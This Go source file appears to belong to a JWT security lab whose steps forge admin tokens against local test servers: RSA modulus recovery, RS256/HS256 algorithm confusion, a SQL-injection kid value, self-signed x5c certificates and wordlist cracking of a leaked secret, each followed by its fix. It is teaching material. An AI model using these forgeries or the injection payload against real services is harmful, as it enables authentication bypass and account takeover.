package attacklab

import (
	"context"
	"crypto/rsa"
	"crypto/x509"
	"embed"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
)

// testdata is embedded so that jwtlab learn runs the steps from any
// directory, as go test does from this one.
//
//go:embed testdata
var testdata embed.FS

// admin is what every attacker here wants the server to believe.
const admin = `{"token_type":"access","exp":1764547200,"user_id":1}`

// StepRecoverModulus: the attacker has two RS256 tokens the server issued
// them, and nothing else.
func StepRecoverModulus(w io.Writer) error {
	toks, err := rs256Tokens()
	if err != nil {
		return err
	}
	n, err := RecoverModulus(toks[0], toks[1], 3)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "recovered a %d-bit modulus\n", n.BitLen())

	// Only to check the attack: the server's real public key.
	server, err := serverKey()
	if err != nil {
		return err
	}
	fmt.Fprintln(w, "equals the server's:", n.Cmp(server.N) == 0)
	return nil
}

// StepConfusion forges HS256 tokens with each encoding of the recovered
// key, against the server that verifies with its PEM file's bytes.
func StepConfusion(w io.Writer) error {
	toks, err := rs256Tokens()
	if err != nil {
		return err
	}
	n, err := RecoverModulus(toks[0], toks[1], 3)
	if err != nil {
		return err
	}
	cands, err := PEMCandidates(&rsa.PublicKey{N: n, E: 3})
	if err != nil {
		return err
	}
	file, err := testdata.ReadFile("testdata/server_public.pem")
	if err != nil {
		return err
	}
	vulnerable, err := ConfusedVerifier(file)
	if err != nil {
		return err
	}
	for _, c := range cands {
		forged := SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, c.PEM)
		user, err := vulnerable(forged)
		fmt.Fprintf(w, "%-27s %s\n", c.Name+":", Verdict(user, err))
	}

	// The fix: pin RS256 and the key, never the key file's bytes.
	server, err := serverKey()
	if err != nil {
		return err
	}
	user, err := PinnedRS256(server)(SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, file))
	fmt.Fprintln(w, "pinned RS256:", Verdict(user, err))
	return nil
}

// StepKidInjection sends a kid that rewrites the key lookup's SQL.
func StepKidInjection(w io.Writer) error {
	const secret = "0d2c6c1e9f8a4b7d3e5f60718293a4b5"
	db, err := OpenKeyStore(context.Background(), map[string]string{"2025-11": secret})
	if err != nil {
		return err
	}
	defer db.Close()

	// The attacker's kid turns the lookup into one that returns their secret.
	kid := `none' UNION SELECT 'attacker-secret' --`
	forged := SignHS256(`{"alg":"HS256","kid":"`+kid+`"}`, admin, []byte("attacker-secret"))
	user, err := KidConcatenated(db)(forged)
	fmt.Fprintln(w, "concatenated SQL:", Verdict(user, err))

	// The fix: kid is a query parameter, only ever a value.
	user, err = KidParameter(db)(forged)
	fmt.Fprintln(w, "SQL parameter:", Verdict(user, err))
	honest := SignHS256(`{"alg":"HS256","kid":"2025-11"}`, `{"token_type":"access","exp":1764547200,"user_id":42}`, []byte(secret))
	user, err = KidParameter(db)(honest)
	fmt.Fprintln(w, "SQL parameter, the server's own token:", Verdict(user, err))
	return nil
}

// StepX5C signs with the attacker's own key and a certificate they made
// for it.
func StepX5C(w io.Writer) error {
	b, err := testdata.ReadFile("testdata/attacker_key.pem")
	if err != nil {
		return err
	}
	block, _ := pem.Decode(b)
	if block == nil {
		return errors.New("attacker_key.pem: no PEM block")
	}
	k, err := x509.ParsePKCS8PrivateKey(block.Bytes)
	if err != nil {
		return err
	}
	forged, err := SelfSignedX5C(k.(*rsa.PrivateKey), admin)
	if err != nil {
		return err
	}
	user, err := NaiveX5C()(forged)
	fmt.Fprintln(w, "key from x5c:", Verdict(user, err))

	// The fix: the server's own key, whatever the header says.
	server, err := serverKey()
	if err != nil {
		return err
	}
	user, err = PinnedRS256(server)(forged)
	fmt.Fprintln(w, "pinned RS256:", Verdict(user, err))
	return nil
}

// StepCrack: the server signs with the SECRET_KEY startproject wrote, and
// the attacker's wordlist has it, because the settings were published.
func StepCrack(w io.Writer) error {
	settings, err := testdata.ReadFile("testdata/settings.py")
	if err != nil {
		return err
	}
	m := regexp.MustCompile(`SECRET_KEY = '(.*)'`).FindSubmatch(settings)
	if m == nil {
		return errors.New("settings.py: no SECRET_KEY")
	}
	weak := m[1]
	list, err := testdata.ReadFile("testdata/wordlist.txt")
	if err != nil {
		return err
	}
	words := strings.Split(strings.TrimSpace(string(list)), "\n")

	const claims = `{"token_type":"access","exp":1764547200,"user_id":42}`
	issued := SignHS256(`{"alg":"HS256","typ":"JWT"}`, claims, weak)
	key, guesses, ok := Crack(issued, words)
	fmt.Fprintf(w, "cracked: %v after %d guesses, prefix %q\n", ok, guesses, key[:min(len(key), 16)])
	forged := SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, []byte(key))
	user, err := PinnedHS256(weak)(forged)
	fmt.Fprintln(w, "forged with it:", Verdict(user, err))

	// The fix: 32 random bytes, which no wordlist holds.
	h, err := testdata.ReadFile("testdata/strong_key.hex")
	if err != nil {
		return err
	}
	strong, err := hex.DecodeString(strings.TrimSpace(string(h)))
	if err != nil {
		return err
	}
	_, guesses, ok = Crack(SignHS256(`{"alg":"HS256","typ":"JWT"}`, claims, strong), words)
	fmt.Fprintf(w, "random key cracked: %v after %d guesses\n", ok, guesses)
	return nil
}

func rs256Tokens() ([]string, error) {
	b, err := testdata.ReadFile("testdata/rs256_tokens.txt")
	if err != nil {
		return nil, err
	}
	toks := strings.Fields(string(b))
	if len(toks) != 2 {
		return nil, fmt.Errorf("rs256_tokens.txt: %d tokens, want 2", len(toks))
	}
	return toks, nil
}

func serverKey() (*rsa.PublicKey, error) {
	b, err := testdata.ReadFile("testdata/server_public.pem")
	if err != nil {
		return nil, err
	}
	block, _ := pem.Decode(b)
	if block == nil {
		return nil, errors.New("server_public.pem: no PEM block")
	}
	k, err := x509.ParsePKIXPublicKey(block.Bytes)
	if err != nil {
		return nil, err
	}
	pub, ok := k.(*rsa.PublicKey)
	if !ok {
		return nil, errors.New("server_public.pem: not an RSA key")
	}
	return pub, nil
}
